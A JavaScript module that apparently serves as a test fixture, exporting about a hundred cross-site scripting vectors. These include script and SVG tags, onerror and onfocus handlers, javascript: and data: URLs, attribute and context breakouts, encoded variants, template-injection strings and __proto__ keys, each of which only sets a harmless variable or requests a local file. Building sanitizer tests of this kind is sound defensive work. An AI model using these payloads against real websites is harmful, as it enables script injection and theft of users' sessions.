// Texts that try to run a script in a page. Each would set the variable pwned, open a dialog or
// request another file.

const run = 'pwned=1';
const tags = [
  `<script>${run}</script>`, `</script><script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script src=//127.0.0.1:9/x.js></script>`,
  `<script type=module>${run}</script>`, `<script\n>${run}</script\n>`, `<script/x>${run}</script/x>`, `<!--<script>${run}</script>-->`, `--><script>${run}</script>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<img src='x' onerror='${run}'>`, `<img/src=x/onerror=${run}>`, `<img src=x:x onerror\n=${run}>`,
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<body onload=${run}>`, `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="java&#9;script:${run}">x</a>`, `<form action="javascript:${run}"><button autofocus>x</button></form>`, `<button formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href="//127.0.0.1:9/">`, `<link rel=stylesheet href="//127.0.0.1:9/x.css">`,
  `<style>@import "//127.0.0.1:9/x.css";</style>`, `<style>*{background:url(//127.0.0.1:9/x)}</style>`, `<div style="background:url(javascript:${run})">`, `<table background="javascript:${run}">`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<xss id=x tabindex=1 onfocus=${run} autofocus>`, `<plaintext><script>${run}</script>`, `<title></title><script>${run}</script>`,
];
const breakouts = [
  `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `\`><img src=x onerror=${run}>`, `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}" x="`, `x onmouseover=${run} `,
  `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</pre><script>${run}</script>`, `</code><img src=x onerror=${run}>`, `</option></select><script>${run}</script>`,
  `]]><script>${run}</script>`, `*/${run}/*`, `";${run};//`, `';${run};//`, `\\";${run};//`, `\\u0022;${run};//`, '${' + `${run}}`, `\`;${run};\``,
  `</script>`, `<!--`, `-->`, `<![CDATA[<script>${run}</script>]]>`, `{"x":"</script><script>${run}</script>"}`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `%3Cscript%3E${run}%3C/script%3E`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u2028${run}//`, `\u2029${run}//`,
  `{{constructor.constructor('${run}')()}}`, `{{.}}<script>${run}</script>`, `{{template "section" .}}`, `{% raw %}<script>${run}</script>`, '<%= ' + run + ' %>', `#{${run}}`, `[x](javascript:${run})`, `![x](x"onerror="${run})`,
  `javascript:${run}`, `JaVaScRiPt:${run}`, `data:text/html,<script>${run}</script>`, `vbscript:${run}`, `//127.0.0.1:9/x`, `#" onclick="${run}`, `__proto__`, `constructor`,
  `\u202e<script>${run}</script>`, `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `\u00abscript\u00bb${run}`, `<\\u0073cript>${run}</script>`, `a\u0085<script>${run}</script>`, `url(javascript:${run})`, `expression(${run})`,
];

export const vectors = [...tags, ...breakouts];
